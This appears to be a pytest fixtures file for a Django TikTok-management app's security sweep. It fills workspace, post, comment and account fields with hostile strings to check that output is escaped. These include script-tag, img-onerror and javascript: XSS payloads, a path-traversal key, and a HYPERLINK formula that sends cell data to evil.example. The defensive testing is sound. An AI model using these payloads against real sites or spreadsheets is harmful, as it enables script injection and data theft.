"""Fixtures for the security sweep: a workspace seeded with hostile strings, and a simulator."""

from __future__ import annotations

import datetime as dt
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.utils import timezone

from accounts.agency_services import agency_client_attach, agency_create
from accounts.models import (
    AccountType,
    AgencyMember,
    ApiToken,
    Invitation,
    Membership,
    Notification,
    Role,
    TikTokAccount,
    TikTokVideo,
    User,
    Workspace,
)
from accounts.token_services import api_token_create
from analytics.models import AccountDailySnapshot, ReportSchedule, ReportSettings, VideoSnapshot
from calendar_app.approvals.links import review_link_create
from calendar_app.models import (
    CaptionTemplate,
    HashtagGroup,
    MediaAsset,
    Post,
    PostEvent,
    PostImport,
    PostStatus,
)
from conversations.models import Comment
from tests.accounts.conftest import CALLBACK_PATH, Sim
from tests.conversations.factories import seed_conversation_team
from tiktok_client.simulator import create_app
from tiktok_client.simulator.server import run_in_thread

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
#: Breaks out of a quoted JavaScript string inside an inline handler.
QUOTE = "'-alert(1)-'"
#: One string carrying every payload; it starts with the URL one so an unescaped href shows it.
PAYLOAD = f"{JS_URL}//{IMG}{SCRIPT}{QUOTE}"
#: TikTok's commenter identifier is theirs to shape: path separators, query and fragment too.
KEY_PAYLOAD = "../<img src=x onerror=alert(1)>/?q=1#x%2F"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass
class Seeded:
    workspace: Workspace
    account: TikTokAccount
    video: TikTokVideo
    media: MediaAsset
    post: Post
    published_post: Post
    comment: Comment
    hostile_author_comment: Comment
    membership: Membership
    invitation: Invitation
    report_schedule: ReportSchedule
    #: Ids of the conversations team objects (labels, saved replies, notes, rules, rule runs).
    team_ids: dict[str, str] = field(default_factory=dict)
    api_token: ApiToken | None = None

    def url_values(self) -> dict[str, str]:
        return {
            "workspace_id": str(self.workspace.id),
            "account_id": str(self.account.id),
            "video_id": str(self.video.id),
            "media_id": str(self.media.id),
            "post_id": str(self.post.id),
            "comment_id": str(self.comment.id),
            "person_ref": self.hostile_author_comment.person_ref,
            "membership_id": str(self.membership.id),
            "invitation_id": str(self.invitation.id),
            "schedule_id": str(self.report_schedule.id),
            "token_id": str(self.api_token.id if self.api_token else uuid.uuid4()),
            "token": self.invitation.token,
            # allauth's e-mail confirmation and password reset keys: any value renders a page.
            "key": "not-a-real-key",
            "uidb36": "1",
            **self.team_ids,
        }


@pytest.fixture(autouse=True)
def fast_password_hashing(settings: Any) -> None:
    """The suite creates many users and brute-forces logins; hashing cost is not under test."""
    settings.PASSWORD_HASHERS = [
        "django.contrib.auth.hashers.MD5PasswordHasher",
        "django.contrib.auth.hashers.PBKDF2PasswordHasher",
    ]


@pytest.fixture
def seeded(workspace: Workspace, owner: User, editor: User, settings: Any, tmp_path: Any) -> Seeded:
    """The workspace with every user- or TikTok-controlled string set to a hostile value."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    workspace.name = SCRIPT + " Acme"
    workspace.save()
    owner.first_name = IMG
    owner.last_name = SCRIPT
    owner.save()
    account = TikTokAccount.objects.create(
        workspace=workspace,
        open_id="open-hostile",
        username=SCRIPT,
        display_name=PAYLOAD,
        avatar_url=JS_URL,
        account_type=AccountType.BUSINESS,
        scopes=["user.info.basic", "video.publish", "video.list", "comment.list.manage"],
    )
    now = timezone.now()
    video = TikTokVideo.objects.create(
        workspace=workspace,
        account=account,
        video_id="7300000000000000042",
        caption=PAYLOAD,
        cover_image_url=JS_URL,
        share_url=JS_URL,
        posted_at=now - dt.timedelta(days=2),
        view_count=1200,
        like_count=30,
        comment_count=2,
    )
    formula_video = TikTokVideo.objects.create(
        workspace=workspace,
        account=account,
        video_id="7300000000000000043",
        caption=FORMULA,
        share_url="https://www.tiktok.com/@x/video/7300000000000000043",
        posted_at=now - dt.timedelta(days=1),
        view_count=10,
    )
    today = timezone.localdate()
    for offset in range(3):
        AccountDailySnapshot.objects.create(
            workspace=workspace,
            account=account,
            date=today - dt.timedelta(days=offset),
            followers=100 + offset,
            video_views=50,
            likes=5,
        )
    for item in (video, formula_video):
        VideoSnapshot.objects.create(
            workspace=workspace,
            video=item,
            bucket_at=now - dt.timedelta(hours=1),
            captured_at=now - dt.timedelta(hours=1),
            date=today,
            views=item.view_count,
        )
    media = MediaAsset(
        workspace=workspace,
        kind="video",
        original_name=PAYLOAD + ".mp4",
        content_type="video/mp4",
        size_bytes=16,
        duration_seconds=12.0,
        width=720,
        height=1280,
        frame_rate=30.0,
    )
    media.file.save("clip.mp4", ContentFile(b"\x00\x00\x00\x10ftypisom" + b"\x00" * 4), save=False)
    media.save()
    post = Post.objects.create(
        workspace=workspace,
        account=account,
        media=media,
        caption=PAYLOAD,
        privacy_level="SELF_ONLY",
        status=PostStatus.FAILED,
        scheduled_at=now + dt.timedelta(days=1),
        scheduled_tz="UTC",
        needs_attention=f"Reconnect {PAYLOAD}",
        fail_message=PAYLOAD,
        tiktok_share_url="",
    )
    Post.objects.create(
        workspace=workspace,
        account=account,
        media=media,
        caption=PAYLOAD,
        privacy_level="SELF_ONLY",
        status=PostStatus.SCHEDULED,
        scheduled_at=now + dt.timedelta(hours=3),
        scheduled_tz="UTC",
    )
    PostEvent.objects.create(workspace=workspace, post=post, kind="failed", message=PAYLOAD)
    published = Post.objects.create(
        workspace=workspace,
        account=account,
        media=media,
        caption=PAYLOAD,
        privacy_level="SELF_ONLY",
        status=PostStatus.PUBLISHED,
        scheduled_at=now - dt.timedelta(hours=3),
        published_at=now - dt.timedelta(hours=3),
        scheduled_tz="UTC",
        tiktok_share_url=JS_URL,
        video=video,
    )
    PostEvent.objects.create(
        workspace=workspace,
        post=published,
        kind="published",
        message=PAYLOAD,
        data={"share_url": JS_URL},
    )
    comment = Comment.objects.create(
        workspace=workspace,
        video=video,
        account=account,
        comment_id="7400000000000000001",
        author_key="fan-hostile",
        author_username=SCRIPT,
        author_display_name=PAYLOAD,
        author_avatar_url=JS_URL,
        text=PAYLOAD,
        created_at_tiktok=now - dt.timedelta(hours=2),
    )
    hostile_author_comment = Comment.objects.create(
        workspace=workspace,
        video=video,
        account=account,
        comment_id="7400000000000000002",
        author_key=KEY_PAYLOAD,
        author_username=IMG,
        author_display_name=SCRIPT,
        text=FORMULA,
        created_at_tiktok=now - dt.timedelta(hours=1),
    )
    Notification.objects.create(
        workspace=workspace,
        user=owner,
        kind="account_needs_reconnect",
        title=f"Reconnect the TikTok account {PAYLOAD}",
        body=PAYLOAD,
        url="/",
    )
    invitation = Invitation.objects.create(
        workspace=workspace,
        email="invitee@example.com",
        token="hostile-invite-token",
        expires_at=now + dt.timedelta(days=3),
        role=Role.EDITOR,
    )
    ReportSettings.objects.create(workspace=workspace, agency_name=PAYLOAD)
    report_schedule = ReportSchedule.objects.create(
        workspace=workspace, frequency="weekly", recipients=["client@example.com"], starts_at=now
    )
    team_ids = seed_conversation_team(workspace=workspace, comment=comment, user=owner)
    # The agency over the workspace, a teammate reaching chosen clients, a client review link.
    agency = agency_create(owner=owner, name=SCRIPT + " Agency")
    agency_client_attach(
        actor=AgencyMember.objects.get(agency=agency, user=owner), workspace_id=workspace.id
    )
    seat = AgencyMember.objects.create(
        agency=agency, user=editor, role=Role.VIEWER, all_clients=False
    )
    seat.clients.add(workspace)
    review_link = review_link_create(
        workspace=workspace,
        actor=Membership.objects.for_workspace(workspace).get(user=owner),
        name=PAYLOAD[:120],
    )
    template = CaptionTemplate.objects.create(workspace=workspace, name=SCRIPT, body=PAYLOAD)
    group = HashtagGroup.objects.create(workspace=workspace, name=SCRIPT, hashtags="#ok")
    post_import = PostImport.objects.create(
        workspace=workspace, created_by=owner, file_name=SCRIPT + ".csv", rows=[]
    )
    team_ids |= {
        "template_id": str(template.id),
        "hashtag_group_id": str(group.id),
        "import_id": str(post_import.id),
        "agency_id": str(agency.id),
        "client_id": str(workspace.id),
        "agency_member_id": str(seat.id),
        "link_id": str(review_link.id),
        # The public media route's file name (the token is any string: a bad one is a 404).
        "name": f"{media.id}.mp4",
    }
    return Seeded(
        report_schedule=report_schedule,
        team_ids=team_ids,
        workspace=workspace,
        account=account,
        video=video,
        media=media,
        post=post,
        published_post=published,
        comment=comment,
        hostile_author_comment=hostile_author_comment,
        membership=Membership.objects.for_workspace(workspace).get(user=editor),
        invitation=invitation,
        api_token=api_token_create(
            user=owner,
            name=SCRIPT,
            access="read_write",
            workspace_ids=[workspace.id],
            lifetime_days=30,
        ).token,
    )


@pytest.fixture
def security_sim(settings: Any) -> Iterator[Sim]:
    """A threaded TikTok simulator with settings pointed at it (tests/accounts' Sim wrapper)."""
    app = create_app(
        min_processing_seconds=0.2,
        moderation_delay=0.0,
    )
    base_url, stop = run_in_thread(port=0, app=app)
    settings.TIKTOK_AUTH_BASE_URL = base_url
    settings.TIKTOK_OPEN_API_BASE_URL = base_url
    settings.TIKTOK_BUSINESS_API_BASE_URL = base_url + "/open_api/v1.3"
    settings.TIKTOK_REDIRECT_URI = "http://localhost:8000" + CALLBACK_PATH
    settings.TIKTOK_TIMEOUT_SECONDS = 5.0
    sim = Sim(app, base_url)
    sim.allow_redirect(settings.TIKTOK_REDIRECT_URI)
    try:
        yield sim
    finally:
        stop()


@pytest.fixture
def fresh_rate_limits() -> Iterator[None]:
    """allauth and the TikTok rate limiter count in the cache/Redis DB this run owns."""
    cache.clear()
    yield
    cache.clear()
